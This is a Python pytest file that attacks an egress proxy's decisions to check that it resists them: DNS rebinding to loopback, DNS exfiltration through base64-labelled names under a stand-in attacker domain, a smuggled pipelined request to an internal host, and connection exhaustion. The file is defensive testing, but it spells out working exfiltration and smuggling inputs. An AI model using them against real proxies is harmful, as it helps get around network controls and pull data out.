"""Attacks on the egress proxy's decisions (issue 16), one test each, against
the proxy's real server code run in this process with the system resolver
replaced by one the attacker controls:

- DNS rebinding: the name resolves to an allowed address when checked and to
  loopback afterwards; the connection must go to the address checked;
- DNS exfiltration: a name no entry allows must never be looked up (the
  query itself would carry the data out);
- request smuggling to another virtual host: a second request pipelined
  behind a plain HTTP request's body must never reach the server;
- exhaustion: connections without end must not make the proxy (outside the
  sandbox) start threads without end, connections still waiting for DNS
  count, silent connections are capped, and running out of descriptors
  once does not end the accept loop;
- a name is looked up as an absolute name (resolv.conf `search` domains
  would retry an allowed name that does not exist inside the cluster's
  internal zone), /etc/hosts still read by the proxy itself;
- an internal error's text (which may quote the head, a key) never
  reaches the audit log.
Each fails on a proxy that resolves again at connect time, resolves before
matching, or forwards the rest of the client's bytes."""
from __future__ import annotations

import asyncio
import os
import socket
import threading
from functools import partial
from http.server import ThreadingHTTPServer

import pytest

from egress.hosts import parse_entry
from egress.server import Proxy
from egress.spec import Hook, Spec
from tests.support.egresskit import Recorder, serve
from tests.support.waiting import until


class Resolver:
    """getaddrinfo under the attacker's control: the first answer for a name,
    then `later` for every further lookup; every name asked is recorded."""

    def __init__(self, first: str, later: str):
        self.first, self.later, self.asked = first, later, []

    async def __call__(self, host, port, **kwargs):
        self.asked.append(host)
        address = self.first if len(self.asked) == 1 else self.later
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (address, port))]


@pytest.fixture
def proxy(tmp_path):
    """start(rules, resolver, hook) → the path of a running in-process proxy."""
    loops = []

    def start(rules, resolver, hook=None) -> str:
        path = str(tmp_path / "proxy.sock")
        spec = Spec(path, tuple(parse_entry(e, f"test:{i}") for i, e in enumerate(rules, 1)),
                    str(tmp_path / "network.log"), {}, "attack")
        fd = os.open(spec.audit, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o600)
        listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        listener.bind(path)
        listener.listen(8)
        listener.setblocking(False)
        loop = asyncio.new_event_loop()
        loop.getaddrinfo = resolver
        server = Proxy(spec, hook, fd)
        start.server, start.loop = server, loop
        ready = threading.Event()

        def run():
            asyncio.set_event_loop(loop)
            task = loop.create_task(server.serve(listener))
            loop.call_soon(ready.set)
            loop.run_forever()
            task.cancel()
            loop.run_until_complete(asyncio.gather(task, *server.tasks,
                                                   return_exceptions=True))
            loop.close()

        thread = threading.Thread(target=run, daemon=True)
        thread.start()
        loops.append((loop, thread, listener, fd))
        ready.wait(10)
        return path

    yield start
    for loop, thread, listener, fd in loops:
        loop.call_soon_threadsafe(loop.stop)
        thread.join(10)
        listener.close()
        os.close(fd)


def exchange(path: str, data: bytes, then: bytes = b"") -> bytes:
    """Send `data`; after a 200 answer send `then`; everything read until EOF."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(20)
        sock.connect(path)
        sock.sendall(data)
        answer = b""
        while then and b"\r\n\r\n" not in answer:
            answer += sock.recv(4096)
        if then and answer.startswith(b"HTTP/1.1 200"):
            sock.sendall(then)
        while chunk := sock.recv(65536):
            answer += chunk
    return answer


def test_dns_rebinding_cannot_move_the_connection_to_loopback(proxy):
    good = serve("127.0.0.2", "good")
    port = good.server_address[1]
    evil = ThreadingHTTPServer(("127.0.0.1", port), Recorder)     # same port, on loopback
    evil.seen, evil.label, evil.expected_key = [], "evil", ""
    threading.Thread(target=evil.serve_forever, daemon=True).start()
    try:
        resolver = Resolver("127.0.0.2", "127.0.0.1")
        path = proxy([f"rebind.test:{port}", f"127.0.0.2/32:{port}"], resolver)
        answer = exchange(path, f"CONNECT rebind.test:{port} HTTP/1.1\r\n\r\n".encode(),
                          b"GET /x HTTP/1.1\r\nHost: rebind.test\r\nConnection: close\r\n\r\n")
        assert answer.startswith(b"HTTP/1.1 200 "), answer
        assert b'"server": "good"' in answer
        assert evil.seen == [] and len(good.seen) == 1
        assert resolver.asked == ["rebind.test."]       # one lookup, the one checked
    finally:
        for server in (good, evil):
            server.shutdown()
            server.server_close()


@pytest.mark.parametrize("request_bytes", [
    b"CONNECT c2VjcmV0.attacker.test:443 HTTP/1.1\r\n\r\n",
    b"GET http://c2VjcmV0.attacker.test/ HTTP/1.1\r\n\r\n",
    b"\x05\x01\x00\x05\x01\x00\x03\x16c2VjcmV0.attacker.test\x01\xbb",
    b"CONNECT c2VjcmV0.pypi.org.attacker.test:443 HTTP/1.1\r\n\r\n",
])
def test_a_name_no_entry_allows_is_never_looked_up(proxy, request_bytes):
    resolver = Resolver("8.8.8.8", "8.8.8.8")
    path = proxy(["pypi.org", "*.githubusercontent.com"], resolver)
    answer = exchange(path, request_bytes)
    assert answer.startswith(b"HTTP/1.1 403 ") or answer[-10:-8] == b"\x05\x02", answer
    assert resolver.asked == []


def test_a_request_pipelined_behind_the_body_never_reaches_the_server(proxy):
    received = []
    listener = socket.socket()
    listener.bind(("127.0.0.2", 0))
    listener.listen(1)
    port = listener.getsockname()[1]

    def server():
        conn, _ = listener.accept()
        data = b""
        while b"\r\n\r\n" not in data or len(data.partition(b"\r\n\r\n")[2]) < 3:
            data += conn.recv(65536)
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
        conn.shutdown(socket.SHUT_WR)
        while chunk := conn.recv(65536):     # whatever else comes, until the proxy closes
            data += chunk
        received.append(data)
        conn.close()

    thread = threading.Thread(target=server, daemon=True)
    thread.start()
    hook = Hook({"www.test": ["127.0.0.2"]}, None)
    path = proxy([f"www.test:{port}", f"127.0.0.2/32:{port}"], Resolver("0.0.0.0", "0.0.0.0"),
                 hook)
    smuggled = b"GET /admin HTTP/1.1\r\nHost: internal.test\r\n\r\n"
    answer = exchange(path, f"POST http://www.test:{port}/a HTTP/1.1\r\nHost: www.test:{port}"
                            f"\r\nContent-Length: 3\r\n\r\nabc".encode() + smuggled)
    thread.join(20)
    listener.close()
    assert answer.endswith(b"\r\n\r\nok")
    (data,) = received
    assert data.endswith(b"\r\n\r\nabc"), data
    assert b"/admin" not in data and b"internal.test" not in data


def test_connections_beyond_the_cap_are_refused_not_served(proxy, monkeypatch):
    import egress.server

    monkeypatch.setattr(egress.server, "MAX_RELAYED", 2)
    good = serve("127.0.0.2", "good")
    port = good.server_address[1]
    path = proxy([f"127.0.0.2/32:{port}"], Resolver("0.0.0.0", "0.0.0.0"))
    held = []
    try:
        for _ in range(2):
            sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            sock.settimeout(10)
            sock.connect(path)
            sock.sendall(f"CONNECT 127.0.0.2:{port} HTTP/1.1\r\n\r\n".encode())
            assert sock.recv(100).startswith(b"HTTP/1.1 200 ")
            held.append(sock)
        answer = exchange(path, f"CONNECT 127.0.0.2:{port} HTTP/1.1\r\n\r\n".encode())
        assert answer.startswith(b"HTTP/1.1 403 ") and b"2 connections are open" in answer
        held.pop().close()              # one ends: the next is served again
        for _ in range(100):
            answer = exchange(path, f"CONNECT 127.0.0.2:{port} HTTP/1.1\r\n\r\n".encode(),
                              b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            if answer.startswith(b"HTTP/1.1 200 "):
                break
            threading.Event().wait(0.02)      # the closed tunnel's threads are ending
        assert answer.startswith(b"HTTP/1.1 200 ") and b'"server": "good"' in answer
    finally:
        for sock in held:
            sock.close()
        good.shutdown()
        good.server_close()


_wait = partial(until, timeout=10, interval=0.005)     # in-process servers: quick


def test_a_name_is_resolved_as_an_absolute_name(proxy):
    resolver = Resolver("10.0.0.1", "10.0.0.1")     # refused after the lookup: no connect
    path = proxy(["*.example.org"], resolver)
    proxy.server.hosts_file = "/nonexistent"
    answer = exchange(path, b"CONNECT nx.example.org:443 HTTP/1.1\r\n\r\n")
    assert resolver.asked == ["nx.example.org."], resolver.asked    # no search domain
    assert answer.startswith(b"HTTP/1.1 403 ") and b"resolves to 10.0.0.1" in answer


def test_etc_hosts_still_names_hosts(proxy, tmp_path):
    """glibc skips /etc/hosts for an absolute name: the proxy reads it."""
    good = serve("127.0.0.2", "good")
    port = good.server_address[1]
    try:
        resolver = Resolver("0.0.0.0", "0.0.0.0")
        path = proxy([f"files.test:{port}", f"127.0.0.2/32:{port}"], resolver)
        (tmp_path / "hosts").write_text("127.0.0.2 files.test\n")
        proxy.server.hosts_file = str(tmp_path / "hosts")
        answer = exchange(path, f"CONNECT files.test:{port} HTTP/1.1\r\n\r\n".encode(),
                          b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        assert answer.startswith(b"HTTP/1.1 200 ") and b'"server": "good"' in answer
        assert resolver.asked == []
    finally:
        good.shutdown()
        good.server_close()


def test_one_failed_accept_does_not_end_the_accept_loop(proxy):
    """EMFILE from accept() (an agent opening connections until the proxy's
    descriptors run out) ended Proxy.serve for good: the proxy stayed up and
    never answered again."""
    import errno

    path = proxy(["pypi.org"], Resolver("0.0.0.0", "0.0.0.0"))
    loop = proxy.loop
    real_accept = loop.sock_accept
    failures = [OSError(errno.EMFILE, "Too many open files")]

    async def flaky_accept(sock):
        if failures:
            raise failures.pop()
        return await real_accept(sock)

    loop.sock_accept = flaky_accept
    # serve() is already waiting inside the real accept: the first connection
    # is accepted by it; the next accept is the failing one.
    for _ in range(3):
        answer = exchange(path, b"CONNECT 10.0.0.1:443 HTTP/1.1\r\n\r\n")
        assert answer.startswith(b"HTTP/1.1 403 "), answer
    assert failures == []


def test_connections_waiting_for_dns_count_against_the_cap(proxy, monkeypatch):
    """The cap is counted at admission: a flood of requests for names that
    resolve slowly must not get past it while none is relaying yet."""
    import egress.server

    monkeypatch.setattr(egress.server, "MAX_RELAYED", 1)
    good = serve("127.0.0.2", "good")
    port = good.server_address[1]
    gate = threading.Event()

    class Slow(Resolver):
        async def __call__(self, host, port, **kwargs):
            self.asked.append(host)
            while not gate.is_set():
                await asyncio.sleep(0.005)
            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("127.0.0.2", port))]

    resolver = Slow("", "")
    path = proxy([f"slow.test:{port}", f"127.0.0.2/32:{port}"], resolver)
    slow = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        slow.settimeout(20)
        slow.connect(path)
        slow.sendall(f"CONNECT slow.test:{port} HTTP/1.1\r\n\r\n".encode())
        _wait(lambda: resolver.asked, "the first request is being resolved")
        answer = exchange(path, f"CONNECT 127.0.0.2:{port} HTTP/1.1\r\n\r\n".encode())
        assert answer.startswith(b"HTTP/1.1 403 ") and b"1 connections are open" in answer
        gate.set()
        assert slow.recv(100).startswith(b"HTTP/1.1 200 ")
    finally:
        gate.set()
        slow.close()
        good.shutdown()
        good.server_close()


def test_silent_connections_are_capped(proxy, monkeypatch):
    """Connections that never send their request hold a descriptor for the
    head timeout each: beyond MAX_PENDING, new ones are closed at once."""
    import egress.server

    monkeypatch.setattr(egress.server, "MAX_PENDING", 2)
    path = proxy(["pypi.org"], Resolver("0.0.0.0", "0.0.0.0"))
    silent = []
    try:
        for _ in range(2):
            sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            sock.connect(path)
            silent.append(sock)
        _wait(lambda: proxy.server.pending == 2, "both silent connections are pending")
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as third:
            third.settimeout(10)
            third.connect(path)
            assert third.recv(100) == b""            # closed at once, not left waiting
        silent.pop().close()
        _wait(lambda: proxy.server.pending == 1, "the closed one is no longer pending")
        answer = exchange(path, b"CONNECT 10.0.0.1:443 HTTP/1.1\r\n\r\n")
        assert answer.startswith(b"HTTP/1.1 403 ")
    finally:
        for sock in silent:
            sock.close()


def test_an_internal_error_does_not_write_the_head_into_the_audit_log(proxy, monkeypatch,
                                                                      tmp_path):
    from egress import protocol

    def broken(buffer):
        raise ValueError(f"cannot parse {bytes(buffer)!r}")     # quotes the head

    monkeypatch.setattr(protocol, "parse_http", broken)
    path = proxy(["pypi.org"], Resolver("0.0.0.0", "0.0.0.0"))
    exchange(path, b"GET /broker/anthropic/v1 HTTP/1.1\r\nx-api-key: sk-SECRET\r\n\r\n")
    _wait(lambda: (tmp_path / "network.log").read_text(), "the record is written")
    log = (tmp_path / "network.log").read_text()
    assert "internal error: ValueError" in log and "sk-SECRET" not in log
